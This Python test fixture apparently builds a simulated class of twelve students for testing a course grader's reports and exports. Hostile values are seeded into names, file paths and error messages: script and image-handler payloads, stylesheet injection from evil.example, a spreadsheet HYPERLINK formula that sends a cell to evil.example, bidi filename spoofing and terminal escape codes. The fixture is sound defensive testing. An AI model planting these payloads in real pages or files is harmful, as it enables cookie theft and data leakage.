"""A class of twelve for the tests of reports and exports: some honest, some hostile."""

import random

from course_pkg.checks import ch03, ch06
from course_pkg.grading.results import (
    ExerciseInfo,
    ExerciseResult,
    FileResult,
    Finding,
    Run,
    StudentResult,
)

SCRIPT = "<script>alert(document.cookie)</script>"
IMAGE = "<img src=x onerror=alert(1)><svg onload=alert(2)><a href='javascript:alert(3)'>x</a>"
STYLE = "</style></title><link rel=stylesheet href=https://evil.example/x.css>{{ 7 * 191 }}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
BIDI = "\u202egnp.exe\u2066 \u2069\u200f"
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m"
LONE = "half \ud83d of a pair"
HOSTILE = (
    SCRIPT,
    IMAGE,
    STYLE,
    FORMULA,
    BIDI,
    TERMINAL,
    LONE,
    "NUL \x00 here",
    "Z" + "\u0336" * 500,
)

STUDENTS = (
    ("anna", "Anna Bäcker"),
    ("ben", "Ben O'Neill"),
    ("chiara", "Chiara D’Angelo, Dott.ssa"),
    ("dmitri", "Дмитрий Соколов"),
    ("0012345", "Elif Yılmaz"),
    ("fatima", "فاطمة الزهراء"),
    ("grace", "👩🏽\u200d💻 Grace"),
    ("hanako", "山田花子"),
    ("igor", f"{FORMULA} Igor {SCRIPT}"),
    ("judit", f"Judit {BIDI}{TERMINAL}{LONE}\x00 {IMAGE}{STYLE}"),
    ("kofi", "K" * 10_000),
    ("lena", "\t=1+1 Lena\r\nsecond line"),
)

EXERCISES = (*ch03.EXERCISES, *ch06.EXERCISES)


def infos():
    return tuple(ExerciseInfo(e.id, e.title, e.kind, e.points, e.section) for e in EXERCISES)


def demo_run(seed=7, sandbox="bubblewrap"):
    """Chapters 3 and 6 of twelve students; the same for the same seed."""
    draw = random.Random(seed)
    exercises = {e.id: e for e in EXERCISES}
    students = []
    for place, (student, name) in enumerate(sorted(STUDENTS)):
        skill = draw.uniform(0.15, 0.95)
        hostile = student in ("igor", "judit", "kofi")
        done = {}
        for info in infos():
            done[info.exercise_id] = _result(exercises[info.exercise_id], skill, hostile, draw)
        files = [
            FileResult(
                3, f"{student}/03_multi_head_attention.ipynb", 1, 1, "2026-03-01T20:15:00+01:00"
            )
        ]
        if place % 4:
            odd = ("An extra cell defines split_heads again; it was not run.",) if place % 3 else ()
            late = f"2026-03-{17 + place:02}T09:30:00+01:00"
            files.append(FileResult(6, f"{student}/06_training.ipynb", 2, 2, late, odd))
        else:
            files.append(FileResult(6, f"batch.zip!{student}/06_training.ipynb"))
        if hostile:
            files[0] = FileResult(
                3, f"{student}/{SCRIPT}{BIDI}{TERMINAL}.ipynb", 1, 1, None, (FORMULA, *HOSTILE)
            )
        students.append(StudentResult(student, name, tuple(files), done))
    return Run(
        seed=987654321,
        sandbox=sandbox,
        exercises=infos(),
        students=tuple(students),
        oddities=("lost+found/03.ipynb belongs to no student.", f"{SCRIPT}{BIDI}: not a notebook."),
        not_covered=("Timing on the processor's caches is not hidden from other code.",),
    )


def _result(exercise, skill, hostile, draw):
    outcome = draw.random()
    difficulty = exercise.difficulty * 0.13
    hard = {"points": 0, "max_points": exercise.points, "hints": exercise.hints}
    hard["seconds"] = draw.random()
    if outcome > 0.96:
        return ExerciseResult(exercise.id, "missing", **hard)
    if outcome > 0.90:
        return ExerciseResult(exercise.id, "not started", **hard)
    if outcome < skill - difficulty + 0.2:
        return ExerciseResult(
            exercise.id,
            "passed",
            exercise.points,
            exercise.points,
            findings=tuple(Finding(p.name, p.statement, True) for p in exercise.properties),
            printed="shape (2, 4, 5, 3)\n" if draw.random() > 0.8 else "",
            seconds=draw.random(),
        )
    if outcome > 0.85:
        hard["problem"] = (
            "Line 3 raised RuntimeError: shape '[2, 4, 5, 3]' is invalid for input of size 96"
        )
        if hostile:
            hard["problem"] = draw.choice(HOSTILE) * 3
        return ExerciseResult(exercise.id, "failed", **hard)
    missed = draw.choice(exercise.misconceptions) if exercise.misconceptions else None
    message = "At [0, 1, 2] you have 0.4121, expected 0.3982.\n\nx = randn(2, 5, 12)"
    if hostile:
        message = "\n".join(HOSTILE) + "M" * 10_000
    findings = tuple(
        Finding(p.name, p.statement, place > 0 and draw.random() > 0.5)
        for place, p in enumerate(exercise.properties)
    )
    findings = tuple(
        f if f.holds else Finding(f.name, f.statement, False, message) for f in findings
    )
    return ExerciseResult(
        exercise.id,
        "failed",
        points=sum(f.holds for f in findings) * exercise.points // (len(findings) + 1),
        max_points=exercise.points,
        findings=findings,
        diagnoses=(missed.diagnosis,) if missed else (),
        misconceptions=(missed.name,) if missed else (),
        hints=exercise.hints,
        printed="\n".join(HOSTILE) if hostile else "tensor([0.4121, 0.3982])\n",
        oddities=(f"The cell prints much: {SCRIPT}",) if hostile else (),
        unsandboxed=False,
        seconds=draw.random(),
    )
